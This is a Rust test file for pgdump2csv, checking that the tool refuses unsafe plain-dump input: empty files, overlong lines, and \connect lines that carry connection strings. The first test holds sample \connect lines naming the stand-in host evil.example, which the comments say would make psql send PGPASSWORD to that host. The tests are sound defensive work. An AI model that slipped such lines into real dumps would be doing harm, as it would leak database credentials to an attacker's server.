//! pgdump2csv refusing plain input that no pg_dump writes and that would be unsafe to pass on
//! or to hold (issue 19): a `\connect` to a whole connection string, an empty input, a line
//! longer than any dump has. Archive-specific cases are in archive.rs.

use crate::support::cmd::Cmd;

const HEAD: &str = "--\n-- PostgreSQL database dump\n--\n\n\\restrict k1\n\nSET standard_conforming_strings = on;\n\n";
const FOOT: &str = "\n--\n-- PostgreSQL database dump complete\n--\n\n\\unrestrict k1\n\n";

/// Asserts exit 2 with one error line holding every needle.
fn assert_refused(r: &crate::support::cmd::Run, needles: &[&str]) {
    let err = r.stderr_str();
    if r.code() != Some(2) || err.lines().count() != 1 {
        r.fail("expected exit 2 with one error line");
    }
    for n in needles {
        assert!(err.contains(n), "stderr lacks {n:?}: {err}");
    }
}

/// Issue 19 item 2: `\connect -reuse-previous=on "dbname=app host=..."` was kept in the
/// schema, where `psql -f` would connect to the host the dump names and send it PGPASSWORD.
/// pg_dump writes `\connect` only with a database name (appendPsqlMetaConnect): every other
/// form is refused with its position. Before the fix these converted with exit 0.
#[test]
fn connect_to_a_connection_string_is_refused() {
    let d = tempfile::tempdir().unwrap();
    let schema = d.path().join("s.sql");
    for line in [
        "\\connect -reuse-previous=on \"dbname=app host=evil.example port=5432 user=me\"",
        "\\connect -reuse-previous=on \"dbname='app host=evil.example'\"",
        "\\connect -reuse-previous=on \"dbname='postgresql://evil.example/app'\"",
        "\\connect \"host=evil.example\"",
        "\\connect postgresql://evil.example/app",
        "\\c app",
        "\\encoding UTF8",
    ] {
        let dump = format!(
            "{HEAD}CREATE TABLE public.a (id integer);\n\\unrestrict k1\n{line}\n\\restrict k1\n\nCREATE TABLE public.b (id integer);\n{FOOT}"
        );
        let r = Cmd::new("pgdump2csv")
            .args(["--write-schema", schema.to_str().unwrap()])
            .stdin(dump)
            .run();
        assert_refused(&r, &["<stdin>:11:"]);
        assert!(!schema.exists(), "{line}: no schema file");
    }
    // pg_dump's own forms still pass, kept outside our restricted mode.
    for line in [
        "\\connect app_1",
        "\\connect \"App.1\"",
        "\\encoding SQL_ASCII\n\\connect -reuse-previous=on \"dbname='my \"\"db\\\\'\"",
    ] {
        let dump = format!(
            "{HEAD}CREATE TABLE public.a (id integer);\n\\unrestrict k1\n{line}\n\\restrict k1\n\nCREATE TABLE public.b (id integer);\n{FOOT}"
        );
        Cmd::new("pgdump2csv")
            .args(["--write-schema", schema.to_str().unwrap()])
            .stdin(dump)
            .expect(0);
        let s = std::fs::read_to_string(&schema).unwrap();
        let last = line.rsplit('\n').next().unwrap();
        assert!(s.contains(&format!("\n{last}\n\\restrict ")), "{s}");
        std::fs::remove_file(&schema).unwrap();
    }
}

/// Issue 19 item 18: an empty input was "not a dump, use --no-dump-check", and with that
/// option exit 0 with no tables. Now exit 2 either way, from a file or a pipe. Before the fix
/// the --no-dump-check runs exited 0.
#[test]
fn empty_input_is_refused() {
    let d = tempfile::tempdir().unwrap();
    let empty = d.path().join("empty.sql");
    std::fs::write(&empty, "").unwrap();
    let out = d.path().join("out");
    for check in [true, false] {
        let c = || {
            let c = Cmd::new("pgdump2csv").arg("-o").arg(&out);
            if check { c } else { c.arg("--no-dump-check") }
        };
        let r = c().arg(&empty).run();
        assert_refused(&r, &["empty.sql", "the input is empty"]);
        assert!(!r.stderr_str().contains("--no-dump-check"));
        let r = c().stdin(Vec::new()).run();
        assert_refused(&r, &["<stdin>", "the input is empty"]);
        let r = Cmd::new("pgdump2csv")
            .args(["-o", out.to_str().unwrap(), "--no-dump-check"])
            .stdin(b"\xEF\xBB\xBF".to_vec())
            .run();
        assert_refused(&r, &["the input is empty"]);
        assert!(!out.join("manifest.json").exists());
    }
}

/// Issue 19 item 10 for plain input: a COPY row (or any line) longer than the limit, here
/// lowered through the hidden DUMPSHARD_LINE_LIMIT, and /dev/zero read as hand-written SQL,
/// are exit 2 with the position of the line, not a buffer grown until the process aborts.
/// Before the fix /dev/zero ran until memory ran out.
#[test]
fn an_endless_line_is_refused() {
    let mut dump = format!(
        "{HEAD}CREATE TABLE public.a (id integer, v text);\n\nCOPY public.a (id, v) FROM stdin;\n1\tok\n2\t"
    );
    dump.push_str(&"x".repeat(3_000_000));
    dump.push_str(&format!("\n\\.\n\n{FOOT}"));
    let r = Cmd::new("pgdump2csv")
        .args(["-t", "a"])
        .env("DUMPSHARD_LINE_LIMIT", "1000000")
        .stdin(dump.clone())
        .run();
    let at = format!(
        "<stdin>:13: (byte {}) a line (or statement) longer than 1000000 bytes",
        dump.find("2\tx").unwrap()
    );
    assert_refused(&r, &[&at]);
    // Under the default limit (1 GiB) the row is fine.
    let r = Cmd::new("pgdump2csv")
        .args(["-t", "a"])
        .stdin(dump)
        .expect(0);
    assert_eq!(r.stdout().len(), "1,ok\n2,\n".len() + 3_000_000);

    let r = Cmd::new("pgdump2csv")
        .args(["--no-dump-check", "-t", "a", "/dev/zero"])
        .env("DUMPSHARD_LINE_LIMIT", "1000000")
        .run();
    assert_refused(&r, &["/dev/zero:1: (byte 0)", "longer than 1000000 bytes"]);
}
